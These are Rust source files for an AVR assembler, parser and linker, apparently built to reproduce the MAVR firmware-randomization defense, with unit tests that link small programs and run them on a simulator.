        text_end: layout.text_end,
        fn_ptr_locs,
    };
    debug_assert!(image.validate().is_ok(), "{:?}", image.validate());
    Ok(image)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::item::{DataObject, FnBuilder, ToolchainOptions};
    use avr_core::device::ATMEGA2560;
    use avr_core::Reg;

    fn tiny_program(toolchain: ToolchainOptions) -> Program {
        let mut p = Program::new(ATMEGA2560, 4);
        p.toolchain = toolchain;
        p.vectors[0] = Some("main".to_string());
        p.push_function(
            FnBuilder::new("main")
                .insn(Insn::Ldi { d: Reg::R24, k: 1 })
                .call("helper")
                .label("spin")
                .rjmp("spin")
                .build(),
        );
        p.push_function(
            FnBuilder::new("helper")
                .insn(Insn::Inc { d: Reg::R24 })
                .insn(Insn::Ret)
                .build(),
        );
        p
    }

    #[test]
    fn links_and_runs() {
        let img = link(&tiny_program(ToolchainOptions::mavr())).unwrap();
        img.validate().unwrap();
        let mut m = avr_sim_smoke(&img);
        m.run(100);
        assert_eq!(m.reg(Reg::R24), 2);
    }

    fn avr_sim_smoke(img: &FirmwareImage) -> avr_sim::Machine {
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, &img.bytes);
        m
    }

    #[test]
    fn no_relax_forces_long_calls() {
        let img = link(&tiny_program(ToolchainOptions::mavr())).unwrap();
        let main = img.symbol("main").unwrap();
        // ldi (1 word) + call (2 words) + rjmp (1 word) = 8 bytes.
        assert_eq!(main.size, 8);
    }

    #[test]
    fn relax_shrinks_nearby_calls() {
        let img = link(&tiny_program(ToolchainOptions::stock())).unwrap();
        let main = img.symbol("main").unwrap();
        // call relaxed to rcall: 6 bytes.
        assert_eq!(main.size, 6);
        // And it still runs correctly.
        let mut m = avr_sim_smoke(&img);
        m.run(100);
        assert_eq!(m.reg(Reg::R24), 2);
    }

    #[test]
    fn relax_keeps_far_calls_long() {
        let mut p = Program::new(ATMEGA2560, 1);
        p.toolchain = ToolchainOptions::stock();
        p.vectors[0] = Some("main".to_string());
        // A 3000-word pad function between main and helper pushes helper
        // out of rcall range from main's call site.
        p.push_function(
            FnBuilder::new("main")
                .call("helper")
                .label("x")
                .rjmp("x")
                .build(),
        );
        let mut b = FnBuilder::new("pad");
        for _ in 0..3000 {
            b = b.insn(Insn::Nop);
        }
        b = b.insn(Insn::Ret);
        p.push_function(b.build());
        p.push_function(FnBuilder::new("helper").insn(Insn::Ret).build());
        let img = link(&p).unwrap();
        // main: long call (2 words) + rjmp (1 word).
        assert_eq!(img.symbol("main").unwrap().size, (2 + 1) * 2);
        let mut m = avr_sim_smoke(&img);
        let exit = m.run(10_000);
        assert!(exit.is_healthy(), "{exit:?}");
    }

    #[test]
    fn vectors_point_at_bad_interrupt_by_default() {
        let img = link(&tiny_program(ToolchainOptions::mavr())).unwrap();
        let bad = img.symbol("__bad_interrupt").unwrap();
        // Vector 1 (unset) must be jmp __bad_interrupt.
        let w0 = img.read_word(4);
        let w1 = img.read_word(6);
        let (insn, _) = avr_core::decode::decode(&[w0, w1]);
        assert_eq!(insn, Insn::Jmp { k: bad.addr / 2 });
    }

    #[test]
    fn fn_pointer_tables_hold_word_addresses() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.rodata
            .push(DataObject::fn_table("handlers", &["helper", "main"]));
        let img = link(&p).unwrap();
        let tbl = img.symbol("handlers").unwrap();
        assert_eq!(tbl.kind, SymbolKind::Object);
        assert!(tbl.addr >= img.text_end);
        let helper = img.symbol("helper").unwrap();
        let main = img.symbol("main").unwrap();
        assert_eq!(u32::from(img.read_word(tbl.addr)), helper.addr / 2);
        assert_eq!(u32::from(img.read_word(tbl.addr + 2)), main.addr / 2);
        assert_eq!(img.fn_ptr_locs, vec![tbl.addr, tbl.addr + 2]);
    }

    #[test]
    fn jmp_sym_offset_targets_inside_function() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.push_function(
            FnBuilder::new("tramp")
                .item(Item::JmpSymOffset {
                    name: "helper".to_string(),
                    byte_offset: 2,
                })
                .build(),
        );
        let img = link(&p).unwrap();
        let helper = img.symbol("helper").unwrap();
        let tramp = img.symbol("tramp").unwrap();
        let (insn, _) =
            avr_core::decode::decode(&[img.read_word(tramp.addr), img.read_word(tramp.addr + 2)]);
        assert_eq!(
            insn,
            Insn::Jmp {
                k: (helper.addr + 2) / 2
            }
        );
    }

    #[test]
    fn undefined_symbol_rejected() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.push_function(FnBuilder::new("broken").call("nowhere").build());
        assert_eq!(
            link(&p).unwrap_err(),
            AsmError::UndefinedSymbol {
                name: "nowhere".to_string()
            }
        );
    }

    #[test]
    fn duplicate_symbol_rejected() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.push_function(FnBuilder::new("main").insn(Insn::Ret).build());
        assert!(matches!(
            link(&p).unwrap_err(),
            AsmError::DuplicateSymbol { .. }
        ));
    }

    #[test]
    fn ldi_of_function_address_rejected() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.push_function(
            FnBuilder::new("leaker")
                .item(Item::LdiSymByte {
                    d: Reg::R30,
                    sym: "helper".to_string(),
                    offset: 0,
                    byte: 0,
                })
                .build(),
        );
        assert!(matches!(
            link(&p).unwrap_err(),
            AsmError::LdiOfFunctionAddress { .. }
        ));
    }

    #[test]
    fn ldi_of_rodata_address_works() {
        let mut p = tiny_program(ToolchainOptions::mavr());
        p.rodata.push(DataObject::new("blob", vec![0xaa, 0xbb]));
        p.push_function(
            FnBuilder::new("reader")
                .item(Item::LdiSymByte {
                    d: Reg::R30,
                    sym: "blob".to_string(),
                    offset: 0,
                    byte: 0,
                })
                .item(Item::LdiSymByte {
                    d: Reg::R31,
                    sym: "blob".to_string(),
                    offset: 0,
                    byte: 1,
                })
                .insn(Insn::Ret)
                .build(),
        );
        let img = link(&p).unwrap();
        let blob = img.symbol("blob").unwrap();
        let reader = img.symbol("reader").unwrap();
        let (lo, _) = avr_core::decode::decode(&[img.read_word(reader.addr)]);
        assert_eq!(
            lo,
            Insn::Ldi {
                d: Reg::R30,
                k: (blob.addr & 0xff) as u8
            }
        );
    }

    #[test]
    fn branch_out_of_range_rejected() {
        let mut p = Program::new(ATMEGA2560, 1);
        p.vectors[0] = Some("main".to_string());
        let mut b = FnBuilder::new("main").label("top");
        for _ in 0..100 {
            b = b.insn(Insn::Nop);
        }
        p.push_function(b.breq("top").build());
        assert!(matches!(
            link(&p).unwrap_err(),
            AsmError::BranchOutOfRange { .. }
        ));
    }

    #[test]
    fn symbols_are_sorted_and_gapless_text() {
        let img = link(&tiny_program(ToolchainOptions::mavr())).unwrap();
        let mut prev_end = 0;
        for s in &img.symbols {
            assert_eq!(s.addr, prev_end, "no gaps between symbols");
            prev_end = s.end();
        }
        assert_eq!(prev_end, img.code_size());
    }

    #[test]
    fn image_too_large_rejected() {
        let mut p = Program::new(ATMEGA2560, 1);
        p.vectors[0] = Some("main".to_string());
        p.push_function(FnBuilder::new("main").insn(Insn::Ret).build());
        p.rodata.push(DataObject::new(
            "huge",
            vec![0; ATMEGA2560.flash_bytes as usize],
        ));
        assert!(matches!(
            link(&p).unwrap_err(),
            AsmError::ImageTooLarge { .. }
        ));
    }
}
