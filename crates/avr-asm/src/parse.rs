//! A text assembler: parse a small `.s`-style dialect into a [`Program`].
//!
//! The dialect covers what the rest of this workspace needs — functions,
//! labels, the full instruction set via the standard mnemonics, symbolic
//! `call`/`jmp`, rodata blobs and function-pointer tables:
//!
//! ```text
//! .device atmega2560
//! .vectors 4
//! .vector 0 main
//!
//! .func main
//!     ldi r24, 0x21
//!     out 0x3e, r24
//!     ldi r24, 0xff
//!     out 0x3d, r24
//! again:
//!     call blink
//!     rjmp again
//! .endfunc
//!
//! .func blink
//!     in r24, 0x05
//!     ldi r25, 0x20
//!     eor r24, r25
//!     out 0x05, r24
//!     ret
//! .endfunc
//!
//! .rodata table
//!     .byte 0x01, 0x02, 0xff
//! .endrodata
//!
//! .fntable handlers blink main
//! ```
//!
//! Numbers accept `0x…` hex or decimal; registers are `r0`–`r31`; branch
//! conditions use the avr-gcc aliases (`breq label`, `brne label`, …).

use std::collections::HashMap;

use avr_core::device::{ATMEGA1284P, ATMEGA2560};
use avr_core::{Insn, PtrReg, Reg, YZ};

use crate::item::{DataObject, Function, Item, Program};

/// A parse failure with its 1-based line number.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// 1-based source line.
    pub line: usize,
    /// Description of the problem.
    pub message: String,
}

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseError {}

fn err(line: usize, message: impl Into<String>) -> ParseError {
    ParseError {
        line,
        message: message.into(),
    }
}

/// Parse assembly text into a linkable [`Program`].
pub fn parse_program(text: &str) -> Result<Program, ParseError> {
    let mut device = ATMEGA2560;
    let mut n_vectors = 1usize;
    let mut vectors: HashMap<usize, String> = HashMap::new();
    let mut functions: Vec<Function> = Vec::new();
    let mut rodata: Vec<DataObject> = Vec::new();

    enum Ctx {
        Top,
        Func(Function),
        Rodata(DataObject),
    }
    let mut ctx = Ctx::Top;

    for (i, raw) in text.lines().enumerate() {
        let line = i + 1;
        let code = raw.split(';').next().unwrap_or("").trim();
        if code.is_empty() {
            continue;
        }
        let (head, rest) = match code.split_once(char::is_whitespace) {
            Some((h, r)) => (h, r.trim()),
            None => (code, ""),
        };

        match (&mut ctx, head) {
            (Ctx::Top, ".device") => {
                device = match rest.to_ascii_lowercase().as_str() {
                    "atmega2560" => ATMEGA2560,
                    "atmega1284p" => ATMEGA1284P,
                    other => return Err(err(line, format!("unknown device `{other}`"))),
                };
            }
            (Ctx::Top, ".vectors") => {
                n_vectors = parse_num(rest, line)? as usize;
            }
            (Ctx::Top, ".vector") => {
                let (idx, name) = rest
                    .split_once(char::is_whitespace)
                    .ok_or_else(|| err(line, ".vector needs `index name`"))?;
                vectors.insert(
                    parse_num(idx.trim(), line)? as usize,
                    name.trim().to_string(),
                );
            }
            (Ctx::Top, ".func") => {
                if rest.is_empty() {
                    return Err(err(line, ".func needs a name"));
                }
                ctx = Ctx::Func(Function::new(rest));
            }
            (Ctx::Top, ".rodata") => {
                if rest.is_empty() {
                    return Err(err(line, ".rodata needs a name"));
                }
                ctx = Ctx::Rodata(DataObject::new(rest, Vec::new()));
            }
            (Ctx::Top, ".fntable") => {
                let mut parts = rest.split_whitespace();
                let name = parts
                    .next()
                    .ok_or_else(|| err(line, ".fntable needs `name fn...`"))?;
                let targets: Vec<&str> = parts.collect();
                if targets.is_empty() {
                    return Err(err(line, ".fntable needs at least one function"));
                }
                rodata.push(DataObject::fn_table(name, &targets));
            }
            (Ctx::Top, other) => {
                return Err(err(line, format!("unexpected `{other}` outside .func")));
            }

            (Ctx::Func(f), ".endfunc") => {
                functions.push(std::mem::replace(f, Function::new("")));
                ctx = Ctx::Top;
            }
            (Ctx::Func(f), ".fixed") => f.movable = false,
            (Ctx::Func(f), _) => {
                let item = parse_item(code, line)?;
                f.items.push(item);
            }

            (Ctx::Rodata(d), ".endrodata") => {
                rodata.push(std::mem::replace(d, DataObject::new("", Vec::new())));
                ctx = Ctx::Top;
            }
            (Ctx::Rodata(d), ".byte") => {
                for tok in rest.split(',') {
                    d.bytes.push(parse_num(tok.trim(), line)? as u8);
                }
            }
            (Ctx::Rodata(d), ".word") => {
                for tok in rest.split(',') {
                    let w = parse_num(tok.trim(), line)? as u16;
                    d.bytes.extend_from_slice(&w.to_le_bytes());
                }
            }
            (Ctx::Rodata(_), other) => {
                return Err(err(line, format!("unexpected `{other}` in .rodata")));
            }
        }
    }
    match ctx {
        Ctx::Top => {}
        Ctx::Func(f) => {
            return Err(err(
                text.lines().count(),
                format!("unterminated .func {}", f.name),
            ))
        }
        Ctx::Rodata(d) => {
            return Err(err(
                text.lines().count(),
                format!("unterminated .rodata {}", d.name),
            ))
        }
    }

    let mut p = Program::new(device, n_vectors.max(1));
    for (idx, name) in vectors {
        if idx >= p.vectors.len() {
            return Err(err(0, format!("vector {idx} out of range")));
        }
        p.vectors[idx] = Some(name);
    }
    p.functions = functions;
    p.rodata.extend(rodata);
    Ok(p)
}

fn parse_num(s: &str, line: usize) -> Result<i64, ParseError> {
    let (neg, body) = match s.strip_prefix('-') {
        Some(b) => (true, b),
        None => (false, s),
    };
    let v = if let Some(hex) = body.strip_prefix("0x") {
        i64::from_str_radix(hex, 16)
    } else {
        body.parse()
    }
    .map_err(|_| err(line, format!("bad number `{s}`")))?;
    Ok(if neg { -v } else { v })
}

fn parse_reg(s: &str, line: usize) -> Result<Reg, ParseError> {
    let n = s
        .strip_prefix(['r', 'R'])
        .and_then(|t| t.parse::<u8>().ok())
        .filter(|&n| n <= 31)
        .ok_or_else(|| err(line, format!("bad register `{s}`")))?;
    Ok(Reg::new(n))
}

fn operands(rest: &str) -> Vec<&str> {
    rest.split(',')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

/// Parse one body line: a label definition or an instruction.
fn parse_item(code: &str, line: usize) -> Result<Item, ParseError> {
    if let Some(label) = code.strip_suffix(':') {
        let label = label.trim();
        if label.is_empty() || label.contains(char::is_whitespace) {
            return Err(err(line, "bad label"));
        }
        return Ok(Item::Label(label.to_string()));
    }
    let (m, rest) = match code.split_once(char::is_whitespace) {
        Some((m, r)) => (m.to_ascii_lowercase(), r.trim()),
        None => (code.to_ascii_lowercase(), ""),
    };
    let ops = operands(rest);
    let one = |i: Insn| Ok(Item::Insn(i));

    // Branch aliases -> Item::Branch.
    let branch = |s: u8, when_set: bool| -> Result<Item, ParseError> {
        let label = ops
            .first()
            .ok_or_else(|| err(line, format!("{m} needs a label")))?;
        Ok(Item::Branch {
            s,
            when_set,
            label: label.to_string(),
        })
    };
    use avr_core::sreg;
    match m.as_str() {
        "breq" => return branch(sreg::Z, true),
        "brne" => return branch(sreg::Z, false),
        "brcs" | "brlo" => return branch(sreg::C, true),
        "brcc" | "brsh" => return branch(sreg::C, false),
        "brmi" => return branch(sreg::N, true),
        "brpl" => return branch(sreg::N, false),
        "brvs" => return branch(sreg::V, true),
        "brvc" => return branch(sreg::V, false),
        "brlt" => return branch(sreg::S, true),
        "brge" => return branch(sreg::S, false),
        "brts" => return branch(sreg::T, true),
        "brtc" => return branch(sreg::T, false),
        _ => {}
    }

    let need = |n: usize| -> Result<(), ParseError> {
        if ops.len() == n {
            Ok(())
        } else {
            Err(err(
                line,
                format!("{m} expects {n} operand(s), got {}", ops.len()),
            ))
        }
    };
    let reg = |i: usize| parse_reg(ops[i], line);
    let num = |i: usize| parse_num(ops[i], line);

    match m.as_str() {
        // zero-operand
        "nop" => one(Insn::Nop),
        "ret" => one(Insn::Ret),
        "reti" => one(Insn::Reti),
        "icall" => one(Insn::Icall),
        "eicall" => one(Insn::Eicall),
        "ijmp" => one(Insn::Ijmp),
        "eijmp" => one(Insn::Eijmp),
        "sleep" => one(Insn::Sleep),
        "break" => one(Insn::Break),
        "wdr" => one(Insn::Wdr),
        "sei" => one(Insn::Bset { s: sreg::I }),
        "cli" => one(Insn::Bclr { s: sreg::I }),
        "sec" => one(Insn::Bset { s: sreg::C }),
        "clc" => one(Insn::Bclr { s: sreg::C }),
        "clr" => {
            need(1)?;
            let d = reg(0)?;
            one(Insn::Eor { d, r: d })
        }
        "tst" => {
            need(1)?;
            let d = reg(0)?;
            one(Insn::And { d, r: d })
        }
        "lsl" => {
            need(1)?;
            let d = reg(0)?;
            one(Insn::Add { d, r: d })
        }
        "rol" => {
            need(1)?;
            let d = reg(0)?;
            one(Insn::Adc { d, r: d })
        }

        // two-register
        "add" | "adc" | "sub" | "sbc" | "and" | "or" | "eor" | "cp" | "cpc" | "cpse" | "mov"
        | "mul" | "movw" | "muls" | "mulsu" | "fmul" | "fmuls" | "fmulsu" => {
            need(2)?;
            let d = reg(0)?;
            let r = reg(1)?;
            one(match m.as_str() {
                "add" => Insn::Add { d, r },
                "adc" => Insn::Adc { d, r },
                "sub" => Insn::Sub { d, r },
                "sbc" => Insn::Sbc { d, r },
                "and" => Insn::And { d, r },
                "or" => Insn::Or { d, r },
                "eor" => Insn::Eor { d, r },
                "cp" => Insn::Cp { d, r },
                "cpc" => Insn::Cpc { d, r },
                "cpse" => Insn::Cpse { d, r },
                "mov" => Insn::Mov { d, r },
                "mul" => Insn::Mul { d, r },
                "movw" => Insn::Movw { d, r },
                "muls" => Insn::Muls { d, r },
                "mulsu" => Insn::Mulsu { d, r },
                "fmul" => Insn::Fmul { d, r },
                "fmuls" => Insn::Fmuls { d, r },
                _ => Insn::Fmulsu { d, r },
            })
        }

        // register + immediate
        "ldi" | "cpi" | "subi" | "sbci" | "ori" | "andi" => {
            need(2)?;
            let d = reg(0)?;
            let k = num(1)? as u8;
            one(match m.as_str() {
                "ldi" => Insn::Ldi { d, k },
                "cpi" => Insn::Cpi { d, k },
                "subi" => Insn::Subi { d, k },
                "sbci" => Insn::Sbci { d, k },
                "ori" => Insn::Ori { d, k },
                _ => Insn::Andi { d, k },
            })
        }

        // one-register
        "com" | "neg" | "swap" | "inc" | "dec" | "asr" | "lsr" | "ror" | "push" | "pop" => {
            need(1)?;
            let d = reg(0)?;
            one(match m.as_str() {
                "com" => Insn::Com { d },
                "neg" => Insn::Neg { d },
                "swap" => Insn::Swap { d },
                "inc" => Insn::Inc { d },
                "dec" => Insn::Dec { d },
                "asr" => Insn::Asr { d },
                "lsr" => Insn::Lsr { d },
                "ror" => Insn::Ror { d },
                "push" => Insn::Push { r: d },
                _ => Insn::Pop { d },
            })
        }

        "adiw" | "sbiw" => {
            need(2)?;
            let d = reg(0)?;
            let k = num(1)? as u8;
            one(if m == "adiw" {
                Insn::Adiw { d, k }
            } else {
                Insn::Sbiw { d, k }
            })
        }

        // memory
        "lds" => {
            need(2)?;
            one(Insn::Lds {
                d: reg(0)?,
                k: num(1)? as u16,
            })
        }
        "sts" => {
            need(2)?;
            one(Insn::Sts {
                k: num(0)? as u16,
                r: reg(1)?,
            })
        }
        "ld" => {
            need(2)?;
            let d = reg(0)?;
            one(match ops[1] {
                "x" | "X" => Insn::Ld { d, ptr: PtrReg::X },
                "x+" | "X+" => Insn::Ld {
                    d,
                    ptr: PtrReg::XPostInc,
                },
                "-x" | "-X" => Insn::Ld {
                    d,
                    ptr: PtrReg::XPreDec,
                },
                "y" | "Y" => Insn::Ldd {
                    d,
                    idx: YZ::Y,
                    q: 0,
                },
                "y+" | "Y+" => Insn::Ld {
                    d,
                    ptr: PtrReg::YPostInc,
                },
                "-y" | "-Y" => Insn::Ld {
                    d,
                    ptr: PtrReg::YPreDec,
                },
                "z" | "Z" => Insn::Ldd {
                    d,
                    idx: YZ::Z,
                    q: 0,
                },
                "z+" | "Z+" => Insn::Ld {
                    d,
                    ptr: PtrReg::ZPostInc,
                },
                "-z" | "-Z" => Insn::Ld {
                    d,
                    ptr: PtrReg::ZPreDec,
                },
                other => return Err(err(line, format!("bad pointer `{other}`"))),
            })
        }
        "st" => {
            need(2)?;
            let r = reg(1)?;
            one(match ops[0] {
                "x" | "X" => Insn::St { ptr: PtrReg::X, r },
                "x+" | "X+" => Insn::St {
                    ptr: PtrReg::XPostInc,
                    r,
                },
                "-x" | "-X" => Insn::St {
                    ptr: PtrReg::XPreDec,
                    r,
                },
                "y" | "Y" => Insn::Std {
                    idx: YZ::Y,
                    q: 0,
                    r,
                },
                "y+" | "Y+" => Insn::St {
                    ptr: PtrReg::YPostInc,
                    r,
                },
                "-y" | "-Y" => Insn::St {
                    ptr: PtrReg::YPreDec,
                    r,
                },
                "z" | "Z" => Insn::Std {
                    idx: YZ::Z,
                    q: 0,
                    r,
                },
                "z+" | "Z+" => Insn::St {
                    ptr: PtrReg::ZPostInc,
                    r,
                },
                "-z" | "-Z" => Insn::St {
                    ptr: PtrReg::ZPreDec,
                    r,
                },
                other => return Err(err(line, format!("bad pointer `{other}`"))),
            })
        }
        "ldd" => {
            need(2)?;
            let d = reg(0)?;
            let (idx, q) = parse_displaced(ops[1], line)?;
            one(Insn::Ldd { d, idx, q })
        }
        "std" => {
            need(2)?;
            let (idx, q) = parse_displaced(ops[0], line)?;
            one(Insn::Std { idx, q, r: reg(1)? })
        }
        "lpm" => {
            need(2)?;
            let d = reg(0)?;
            one(Insn::Lpm {
                d,
                post_inc: ops[1].ends_with('+'),
            })
        }
        "elpm" => {
            need(2)?;
            let d = reg(0)?;
            one(Insn::Elpm {
                d,
                post_inc: ops[1].ends_with('+'),
            })
        }
        "in" => {
            need(2)?;
            one(Insn::In {
                d: reg(0)?,
                a: num(1)? as u8,
            })
        }
        "out" => {
            need(2)?;
            one(Insn::Out {
                a: num(0)? as u8,
                r: reg(1)?,
            })
        }

        // bit ops
        "bst" | "bld" | "sbrc" | "sbrs" => {
            need(2)?;
            let r = reg(0)?;
            let b = num(1)? as u8;
            one(match m.as_str() {
                "bst" => Insn::Bst { d: r, b },
                "bld" => Insn::Bld { d: r, b },
                "sbrc" => Insn::Sbrc { r, b },
                _ => Insn::Sbrs { r, b },
            })
        }
        "sbi" | "cbi" | "sbic" | "sbis" => {
            need(2)?;
            let a = num(0)? as u8;
            let b = num(1)? as u8;
            one(match m.as_str() {
                "sbi" => Insn::Sbi { a, b },
                "cbi" => Insn::Cbi { a, b },
                "sbic" => Insn::Sbic { a, b },
                _ => Insn::Sbis { a, b },
            })
        }

        // symbolic control flow
        "call" => {
            need(1)?;
            Ok(Item::CallSym(ops[0].to_string()))
        }
        "jmp" => {
            need(1)?;
            // `jmp symbol+offset` is the switch-trampoline form.
            if let Some((sym, off)) = ops[0].split_once('+') {
                Ok(Item::JmpSymOffset {
                    name: sym.to_string(),
                    byte_offset: parse_num(off, line)? as u32,
                })
            } else {
                Ok(Item::JmpSym(ops[0].to_string()))
            }
        }
        "rjmp" => {
            need(1)?;
            Ok(Item::RjmpLabel(ops[0].to_string()))
        }

        other => Err(err(line, format!("unknown mnemonic `{other}`"))),
    }
}

/// Parse `y+3` / `z+12` displacement operands.
fn parse_displaced(s: &str, line: usize) -> Result<(YZ, u8), ParseError> {
    let lower = s.to_ascii_lowercase();
    let (base, off) = lower
        .split_once('+')
        .ok_or_else(|| err(line, format!("bad displaced operand `{s}`")))?;
    let idx = match base.trim() {
        "y" => YZ::Y,
        "z" => YZ::Z,
        other => return Err(err(line, format!("bad base register `{other}`"))),
    };
    let q = parse_num(off.trim(), line)? as u8;
    Ok((idx, q))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link;
    use avr_sim::Machine;

    const BLINKER: &str = r#"
; A minimal blinker with a helper call.
.device atmega2560
.vectors 4
.vector 0 main

.func main
    ldi r24, 0x21
    out 0x3e, r24
    ldi r24, 0xff
    out 0x3d, r24
    ldi r20, 0
again:
    call bump
    cpi r20, 5
    brne again
    break
.endfunc

.func bump
    inc r20
    ret
.endfunc
"#;

    #[test]
    fn parses_and_runs() {
        let p = parse_program(BLINKER).unwrap();
        assert_eq!(p.functions.len(), 2);
        let img = link(&p).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &img.bytes);
        m.run(10_000);
        assert_eq!(m.reg(Reg::R20), 5);
    }

    #[test]
    fn parses_rodata_and_tables() {
        let src = r#"
.device atmega2560
.vectors 1
.vector 0 main
.func main
halt:
    rjmp halt
.endfunc
.rodata blob
    .byte 0x01, 2, 0xff
    .word 0x1234
.endrodata
.fntable handlers main
"#;
        let p = parse_program(src).unwrap();
        let img = link(&p).unwrap();
        let blob = img.symbol("blob").unwrap();
        assert_eq!(
            &img.bytes[blob.addr as usize..blob.addr as usize + 5],
            &[1, 2, 0xff, 0x34, 0x12]
        );
        assert_eq!(img.fn_ptr_locs.len(), 1);
    }

    #[test]
    fn parses_displaced_and_pointer_modes() {
        let src = r#"
.device atmega2560
.vectors 1
.vector 0 f
.func f
    ldd r24, y+3
    std z+12, r24
    ld r25, x+
    st -y, r25
    lpm r0, z+
    break
.endfunc
"#;
        let p = parse_program(src).unwrap();
        let f = &p.functions[0];
        assert_eq!(
            f.items[0],
            Item::Insn(Insn::Ldd {
                d: Reg::R24,
                idx: YZ::Y,
                q: 3
            })
        );
        assert_eq!(
            f.items[1],
            Item::Insn(Insn::Std {
                idx: YZ::Z,
                q: 12,
                r: Reg::R24
            })
        );
        assert_eq!(
            f.items[2],
            Item::Insn(Insn::Ld {
                d: Reg::R25,
                ptr: PtrReg::XPostInc
            })
        );
        assert_eq!(
            f.items[3],
            Item::Insn(Insn::St {
                ptr: PtrReg::YPreDec,
                r: Reg::R25
            })
        );
    }

    #[test]
    fn trampoline_jump_syntax() {
        let src =
            ".device atmega2560\n.func f\n    jmp g+8\n.endfunc\n.func g\n    ret\n.endfunc\n";
        let p = parse_program(src).unwrap();
        assert_eq!(
            p.functions[0].items[0],
            Item::JmpSymOffset {
                name: "g".to_string(),
                byte_offset: 8
            }
        );
    }

    #[test]
    fn fixed_directive_pins_function() {
        let src = ".device atmega2560\n.func bl\n.fixed\n    ret\n.endfunc\n";
        let p = parse_program(src).unwrap();
        assert!(!p.functions[0].movable);
    }

    #[test]
    fn errors_carry_line_numbers() {
        let bad = ".device atmega2560\n.func f\n    frobnicate r1\n.endfunc\n";
        let e = parse_program(bad).unwrap_err();
        assert_eq!(e.line, 3);
        assert!(e.message.contains("frobnicate"));

        assert!(parse_program(".func f\n    ret\n")
            .unwrap_err()
            .message
            .contains("unterminated"));
        assert!(parse_program(".device z80\n").is_err());
        assert!(parse_program(".func f\n    ldi r24\n.endfunc\n")
            .unwrap_err()
            .message
            .contains("expects 2"));
        assert!(parse_program("ret\n")
            .unwrap_err()
            .message
            .contains("outside .func"));
    }

    #[test]
    fn comments_and_aliases() {
        let src = r#"
.device atmega2560
.func f
    clr r20      ; zero it
    tst r20
    breq done
    lsl r20
done:
    sei
    cli
    ret
.endfunc
"#;
        let p = parse_program(src).unwrap();
        let f = &p.functions[0];
        assert_eq!(
            f.items[0],
            Item::Insn(Insn::Eor {
                d: Reg::R20,
                r: Reg::R20
            })
        );
        assert_eq!(
            f.items[1],
            Item::Insn(Insn::And {
                d: Reg::R20,
                r: Reg::R20
            })
        );
        assert!(matches!(f.items[2], Item::Branch { when_set: true, .. }));
    }
}
