//! Assembler / linker substrate for the MAVR reproduction.
//!
//! The paper operates on binaries produced by a custom GCC 4.5.4 + Binutils
//! toolchain (§VI-B1). We do not re-implement GCC; instead this crate is a
//! small assembler and linker whose **output has exactly the structural
//! properties MAVR depends on**:
//!
//! * programs are collections of named [`Function`] blocks plus read-only
//!   data objects, laid out as `[vector table][.text functions][.rodata]`,
//! * cross-function control transfers are symbolic ([`Item::CallSym`] /
//!   [`Item::JmpSym`]) and resolve to either long absolute `call`/`jmp` or
//!   short relative `rcall`/`rjmp` depending on
//!   [`ToolchainOptions::relax`] — the paper's `--no-relax` flag,
//! * [`ToolchainOptions::call_prologues`] emits the shared
//!   push/pop prologue–epilogue blob of GCC's `-mcall-prologues`, which the
//!   paper had to disable because it concentrates gadgets and leaks its
//!   location through hundreds of references,
//! * function pointers stored in data (C++ vtables, call-routing arrays)
//!   are emitted as 16-bit **word addresses** and their flash locations are
//!   recorded in [`FirmwareImage::fn_ptr_locs`] for the preprocessor,
//! * the linker produces a [`FirmwareImage`] with the full (pre-strip)
//!   symbol table, which is what the MAVR preprocessing phase consumes.
//!
//! [`FirmwareImage`]: avr_core::image::FirmwareImage
//! [`FirmwareImage::fn_ptr_locs`]: avr_core::image::FirmwareImage::fn_ptr_locs

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod item;
mod link;
pub mod parse;

pub use item::{DataObject, FnBuilder, Function, Item, Program, ToolchainOptions};
pub use link::link;
pub use parse::parse_program;

use avr_core::EncodeError;

/// Errors from assembling and linking a [`Program`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AsmError {
    /// A referenced symbol is not defined anywhere in the program.
    UndefinedSymbol {
        /// The missing symbol.
        name: String,
    },
    /// Two functions or data objects share a name.
    DuplicateSymbol {
        /// The duplicated name.
        name: String,
    },
    /// A local label was defined twice within one function.
    DuplicateLabel {
        /// Function name.
        function: String,
        /// The duplicated label.
        label: String,
    },
    /// A local label referenced by a branch does not exist.
    UndefinedLabel {
        /// Function name.
        function: String,
        /// The missing label.
        label: String,
    },
    /// A conditional branch target is beyond the ±64-word reach.
    BranchOutOfRange {
        /// Function name.
        function: String,
        /// The label that is out of reach.
        label: String,
        /// Actual distance in words.
        distance: i64,
    },
    /// `ldi` of a function address was requested. The C compiler never
    /// encodes function pointers as immediates (§VI-B2), and MAVR could not
    /// patch them if it did; the linker refuses.
    LdiOfFunctionAddress {
        /// The function whose address was requested.
        name: String,
    },
    /// The linked image exceeds the device flash.
    ImageTooLarge {
        /// Required bytes.
        required: u32,
        /// Available flash bytes.
        available: u32,
    },
    /// An instruction operand could not be encoded.
    Encode(EncodeError),
}

impl std::fmt::Display for AsmError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AsmError::UndefinedSymbol { name } => write!(f, "undefined symbol `{name}`"),
            AsmError::DuplicateSymbol { name } => write!(f, "duplicate symbol `{name}`"),
            AsmError::DuplicateLabel { function, label } => {
                write!(f, "duplicate label `{label}` in `{function}`")
            }
            AsmError::UndefinedLabel { function, label } => {
                write!(f, "undefined label `{label}` in `{function}`")
            }
            AsmError::BranchOutOfRange {
                function,
                label,
                distance,
            } => write!(
                f,
                "branch to `{label}` in `{function}` out of range ({distance} words)"
            ),
            AsmError::LdiOfFunctionAddress { name } => {
                write!(
                    f,
                    "refusing to encode function address of `{name}` as immediate"
                )
            }
            AsmError::ImageTooLarge {
                required,
                available,
